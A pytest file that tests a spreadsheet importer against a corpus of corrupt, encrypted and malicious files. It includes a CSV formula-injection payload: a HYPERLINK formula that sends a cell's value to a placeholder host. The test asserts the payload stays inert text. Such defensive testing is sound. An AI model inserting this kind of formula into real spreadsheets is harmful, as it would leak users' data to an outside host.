"""Every file of corpus/badinputs: the right ReadError category, or a correct read.

The files are listed from the folder at collection time, so a file added to the corpus
without an expectation here fails `test_every_file_has_an_expectation`.
"""

from __future__ import annotations

from collections.abc import Callable
from datetime import date, timedelta
from typing import TYPE_CHECKING

import pytest

from planner.importing import (
    CellError,
    FileInfo,
    ReadError,
    SheetData,
    inspect_file,
    read_sheet,
)
from tests.helpers.corpus import listing

if TYPE_CHECKING:
    from pathlib import Path

Check = Callable[[FileInfo, SheetData], None]


def _texts(data: SheetData) -> list[str]:
    return [notice.text for notice in data.notices]


def _sources(info: FileInfo, data: SheetData) -> None:
    assert info.delimiter == "\t"
    assert data.rows[0][:3] == ["local_path", "repo", "path"]


def _ptgexp(_info: FileInfo, data: SheetData) -> None:
    assert data.engine == "calamine"
    assert data.rows[1][5] == "Donee"


def _xlsx_corrupted(_info: FileInfo, data: SheetData) -> None:
    assert data.engine == "openpyxl"  # calamine refuses the damaged relationships
    assert data.rows[0] == ["test", "DOCTYPE", "XXE", "injection"]


def _corrupted_cfb(info: FileInfo, data: SheetData) -> None:
    assert data.engine == "calamine"  # xlrd refuses the CFB corruption
    assert data.rows[0][0] == "ПРАЙС-ЛИСТ"
    assert len(info.sheets) >= 5


def _bad_csv(_info: FileInfo, data: SheetData) -> None:
    ragged = [n for n in data.notices if "the header has 3" in n.text]
    assert [(n.row, "line 2" in n.text or "line 3" in n.text) for n in ragged] == [
        (1, True),
        (2, True),
    ]
    assert data.rows[1] == ["1", "27", None, "I'm too long!"]  # never an index column


def _null_byte(_info: FileInfo, data: SheetData) -> None:
    assert data.rows[1] == [None, "2", "3"]
    assert any("NUL" in text for text in _texts(data))


def _latin1(info: FileInfo, data: SheetData) -> None:
    assert info.encoding == "cp1252"
    assert data.rows[2][2] == "©"
    assert "encoding: Windows-1252" in _texts(data)


def _utf8_bom(info: FileInfo, data: SheetData) -> None:
    assert info.encoding == "utf-8-sig"
    assert data.rows[0][0] == "foo"  # no stray \ufeff
    assert data.rows[2][2] == "ʤ"


def _number_format_de(info: FileInfo, data: SheetData) -> None:
    assert info.decimal_comma
    assert data.rows[0] == ["-123", "1.234", "12.345,67"]


def _line_break(_info: FileInfo, data: SheetData) -> None:
    assert len(data.rows) == 6
    assert data.rows[1][1] == "This is a test\nwith line breaks\nthat breaks the\ndelimiters"
    assert data.rows[1][2] == "http://google.com"


def _win1252(info: FileInfo, data: SheetData) -> None:
    assert info.encoding == "cp1252"
    assert data.rows[0] == ["première", "second", "troisième"]


def _semicolon(info: FileInfo, data: SheetData) -> None:
    assert info.delimiter == ";"
    assert info.decimal_comma
    assert data.rows[1] == ["Cell A2", "Number with comma", "25,5"]
    assert data.rows[2] == ["Two colons and a comma", "B|3", ":,:"]


def _sep_line(info: FileInfo, data: SheetData) -> None:
    assert info.delimiter == ";"
    assert data.rows == [["A", "1"], ["2", "3"]]


def _date_1904(_info: FileInfo, data: SheetData) -> None:
    assert data.rows[0][0] == date(2021, 1, 1)
    assert data.rows[1][0] == date(2021, 1, 2)
    assert isinstance(data.rows[2][0], timedelta)  # a duration stays a duration


def _date_1904_xls(_info: FileInfo, data: SheetData) -> None:
    assert data.rows[0][0] == date(2000, 1, 1)


def _workbook_protection(_info: FileInfo, data: SheetData) -> None:
    assert data.rows == [["testcontent"]]


def _oom_alloc(info: FileInfo, data: SheetData) -> None:
    hidden = [sheet.name for sheet in info.sheets if sheet.hidden]
    assert "Data" in hidden
    assert data.name == "Weekly Report"  # hidden sheets are not read by default


def _declared_only(_info: FileInfo, data: SheetData) -> None:
    assert data.rows == [["Item"]]


def _injection(_info: FileInfo, data: SheetData) -> None:
    notes = [row[1] for row in data.rows[1:]]
    assert notes[0] == '=HYPERLINK("http://x.invalid/?d="&A1,"click")'  # text, never run
    assert "\r=1+1" in notes or "\n=1+1" in notes


def _link_external(_info: FileInfo, data: SheetData) -> None:
    assert data.rows == [[10.0, 20.0]]


def _shared_strings(info: FileInfo, data: SheetData) -> None:
    assert len(data.rows) == 3999
    assert info.sheets[0].rows >= 3998
    assert all(
        len(cell) <= 32_767 for row in data.rows for cell in row if isinstance(cell, str)
    )
    cut = [n for n in data.notices if "longer than 32,767" in n.text]
    assert len(cut) > 100  # 100 named cells plus the summary
    assert "cells in all" in cut[-1].text


def _xxe(_info: FileInfo, data: SheetData) -> None:
    assert data.rows[8][2:5] == ["/Test/Test", "Column1", "Column2"]  # C9:E9
    assert data.rows[9][2] == "1"


def _errors(_info: FileInfo, data: SheetData) -> None:
    codes = [row[0] for row in data.rows]
    assert codes == [
        CellError(code)
        for code in ("#DIV/0!", "#NAME?", "#VALUE!", "#NULL!", "#REF!", "#NUM!", "#N/A")
    ]


def _x000d(_info: FileInfo, data: SheetData) -> None:
    assert data.rows == [["ABC\nDEF"]]


def _merge_cells(_info: FileInfo, data: SheetData) -> None:
    assert data.rows[0] == ["Row Merge", None, "Not Merged"]  # value in the top-left only


def _merged_ods(_info: FileInfo, data: SheetData) -> None:
    assert data.rows[0] == ["A", "B", "C"]


def _no_dimensions(info: FileInfo, data: SheetData) -> None:
    assert data.rows[0][0] == "This is cell A1 in Sheet 1"
    assert [sheet.rows for sheet in info.sheets][:3] == [5, 30, 2]


def _backslashes(_info: FileInfo, data: SheetData) -> None:
    assert data.engine == "calamine"  # openpyxl cannot find the parts
    assert data.rows[0][:3] == ["Key ID", "Key", "English"]


def _utf16(_info: FileInfo, data: SheetData) -> None:
    assert data.engine == "openpyxl"  # calamine refuses UTF-16 parts
    assert data.rows == [[1]]


def _strict(info: FileInfo, data: SheetData) -> None:
    assert data.engine == "calamine"  # openpyxl sees 0 sheets in Strict OOXML
    assert [sheet.name for sheet in info.sheets] == ["First Sheet", "Sheet Number 2", "Sheet3"]
    assert data.rows[0][0] == "Test spreadsheet"


def _xlsb(_info: FileInfo, data: SheetData) -> None:
    assert data.rows[0][:2] == ["String", "This is a string"]
    assert CellError("#NAME?") in data.rows[13]


def _bad_dimensions(_info: FileInfo, data: SheetData) -> None:
    assert data.rows == [
        ["PN", "Qty", "Price"],
        ["EP00001", 10000.0, 0.0367],
        ["EP00002", None, 1.0],
        ["EP00004", 10000.0, 0.001],
    ]


def _biff4(_info: FileInfo, data: SheetData) -> None:
    assert data.engine == "xlrd"  # calamine knows no BIFF4
    assert data.rows[0] == ["ID", "TOTAL", "MAIN", "SUB"]
    assert len(data.rows) == 27


EXPECTED: dict[str, str | Check] = {
    "SOURCES.tsv": _sources,
    "corrupt/calamine__ptgexp-truncated-operand.xls": _ptgexp,
    "corrupt/calamine__too_small.xls": "not_a_spreadsheet",
    "corrupt/excelize__BadWorkbook.xlsx": "damaged",
    "corrupt/openpyxl__null_archive.xlsx": "damaged",
    "corrupt/openpyxl__null_file.xlsx": "empty",
    "corrupt/poi__clusterfuzz-testcase-minimized-POIHSSFFuzzer-6137883240824832.xls": "damaged",
    "corrupt/poi__xlsx-corrupted.xlsx": _xlsx_corrupted,
    "corrupt/xlrd__corrupted_error.xls": _corrupted_cfb,
    "csv/csvkit__bad.csv": _bad_csv,
    "csv/csvkit__empty.csv": "empty",
    "csv/csvkit__null_byte.csv": _null_byte,
    "csv/csvkit__test_latin1.csv": _latin1,
    "csv/csvkit__test_utf8_bom.csv": _utf8_bom,
    "csv/phpspreadsheet__NumberFormatTest.de.csv": _number_format_de,
    "csv/phpspreadsheet__line_break_in_enclosure.csv": _line_break,
    "csv/phpspreadsheet__premiere.win1252.csv": _win1252,
    "csv/phpspreadsheet__semicolon_separated.csv": _semicolon,
    "csv/phpspreadsheet__sep.csv": _sep_line,
    "dates/calamine__date_1904.xlsx": _date_1904,
    "dates/poi__1904DateWindowing.xls": _date_1904_xls,
    "encrypted/calamine__pass_protected.ods": "encrypted",
    "encrypted/calamine__pass_protected.xlsb": "encrypted",
    "encrypted/poi__password.xls": "encrypted",
    "encrypted/poi__protected_passtika.xlsx": "encrypted",
    "encrypted/poi__workbookProtection-workbook_password-2013.xlsx": _workbook_protection,
    "security/calamine__OOM_alloc.xls": _oom_alloc,
    "security/calamine__issue_594_dos.ods": "too_large",
    "security/dim_declared_only.xlsx": _declared_only,
    "security/formula_injection.csv": _injection,
    "security/poi__link-external-workbook-a.xlsx": _link_external,
    "security/poi__poc-shared-strings.xlsx": _shared_strings,
    "security/poi__poc-xmlbomb.xlsx": "unsafe",
    "security/poi__xlmmacro.xlsm": "empty",  # empty worksheets; the macro sheet is skipped
    "security/poi__xxe_in_schema.xlsx": _xxe,
    "structure/calamine__empty_sheet.xlsx": "empty",
    "structure/calamine__errors.xlsx": _errors,
    "structure/calamine__has_x000D_.xlsx": _x000d,
    "structure/calamine__merge_cells.xlsx": _merge_cells,
    "structure/calamine__merged_cells.ods": _merged_ods,
    "structure/openpyxl__empty_no_dimensions.xlsx": _no_dimensions,
    "structure/phpspreadsheet__Zip-Windows-Directory-Separator.xlsx": _backslashes,
    "structure/phpspreadsheet__utf16be.bom.xlsx": _utf16,
    "structure/poi__SampleSS.strict.xlsx": _strict,
    "structure/poi__testVarious.xlsb": _xlsb,
    "structure/tablib__bad_dimensions.xlsx": _bad_dimensions,
    "structure/xlrd__biff4_no_format_no_window2.xls": _biff4,
}

FILES = listing("badinputs")


def test_every_file_has_an_expectation() -> None:
    """A file added to the corpus must get a line in EXPECTED (and no line goes stale)."""
    assert FILES, "corpus/badinputs is empty or missing"
    assert sorted(set(FILES) - set(EXPECTED)) == []
    assert sorted(set(EXPECTED) - set(FILES)) == []


@pytest.mark.parametrize("name", FILES)
def test_bad_input(corpus: Path, name: str) -> None:
    """Inspect and read a file: either its expected ReadError, or the spot-checked values."""
    path = corpus / "badinputs" / name
    expected = EXPECTED.get(name)
    assert expected is not None, f"add {name} to EXPECTED"
    outcome = _outcome(path)
    if isinstance(outcome, ReadError):
        assert outcome.category == expected, f"{name}: {outcome} ({outcome.detail})"
        assert path.name in str(outcome)
        assert "\n" not in str(outcome)
        return
    assert not isinstance(expected, str), f"{name} was read, {expected} expected"
    info, data = outcome
    assert data.rows
    assert len({len(row) for row in data.rows}) == 1  # rectangular
    expected(info, data)


def _outcome(path: Path) -> tuple[FileInfo, SheetData] | ReadError:
    """Inspect and read a file; a ReadError is returned, anything else propagates."""
    try:
        return inspect_file(path), read_sheet(path)
    except ReadError as exc:
        return exc
